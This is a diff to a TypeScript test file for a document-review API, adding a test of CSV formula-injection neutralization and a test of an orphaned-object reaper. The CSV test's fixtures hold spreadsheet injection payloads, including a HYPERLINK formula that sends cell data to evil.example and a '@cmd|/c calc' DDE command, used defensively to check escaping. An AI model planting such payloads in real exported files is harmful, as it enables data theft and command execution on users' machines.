@@ -4,8 +4,10 @@
  * dispositions, the resolution log and its publication, closing, and a document whose visibility
  * narrows while its review is open.
  */
-import { createHash } from 'node:crypto';
+import { createHash, randomBytes, randomUUID } from 'node:crypto';
+import { Readable } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { reapOrphanedObjects } from '../src/services/maintenance/reap-orphaned-objects.js';
 import { TestClient } from './client.js';
 import { uploadVersion } from './factories.js';
 import { type RunningApi, startApi } from './helpers.js';
@@ -518,5 +520,56 @@ describe('a document whose visibility narrows while its review is open', () => {
       visibility: 'partners',
     });
     expect((await getComment(as('member@ofa'), comment.id)).status).toBe(200);
+  });
+});
+
+describe('the resolution log as CSV', () => {
+  it('neutralizes cells a spreadsheet would run as formulas', async () => {
+    const document = await sharedDocument(as('editor@dmtf'));
+    const review = await openedReview(as('editor@dmtf'), document);
+    const comment = await commented(as('member@ofa'), review, {
+      location: '+SUM(A1:A9)',
+      body: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      proposedChange: '@cmd|/c calc',
+    });
+    await dispose(as('editor@dmtf'), comment.id, { disposition: 'rejected', response: '-2+3' });
+    const csv = await (
+      await as('editor@dmtf').fetch(`/api/v1/reviews/${review.id}/log?format=csv`)
+    ).text();
+    const row = csv.split('\r\n')[1]!;
+    expect(row).toContain(`,'+SUM(A1:A9),`);
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
+    expect(row).toContain(`,'@cmd|/c calc,`);
+    expect(row).toContain(`,rejected,'-2+3,`);
+    expect(row).not.toMatch(/,[=+@-]/);
+  });
+});
+
+describe('the reaper', () => {
+  let own: RunningApi;
+
+  beforeAll(async () => {
+    own = await startApi({ S3_BUCKET: `reviews-reaper-${randomBytes(6).toString('hex')}` });
+  });
+
+  afterAll(async () => {
+    await own?.close();
+  });
+
+  it('keeps comment attachments and deletes unreferenced objects under review-comments/', async () => {
+    const editor = await TestClient.signIn(own.url, 'editor@dmtf.example');
+    const member = await TestClient.signIn(own.url, 'member@ofa.example');
+    const review = await openedReview(editor, await sharedDocument(editor));
+    const comment = await commented(member, review, {}, [filePart('markup.pdf')]);
+    const orphan = `review-comments/${review.id}/${randomUUID()}`;
+    await own.storage.putStream(orphan, Readable.from([Buffer.from('left behind')]));
+    const log = { debug() {}, info() {}, warn() {}, error() {} };
+    const summary = await reapOrphanedObjects(
+      { pool: own.pool, storage: own.storage, log },
+      { olderThanMs: 0, now: new Date(Date.now() + 60_000) },
+    );
+    expect(summary.deleted).toEqual([orphan]);
+    const content = await editor.fetch(`/api/v1/comments/${comment.id}/attachment/content`);
+    expect(content.status).toBe(200);
   });
 });
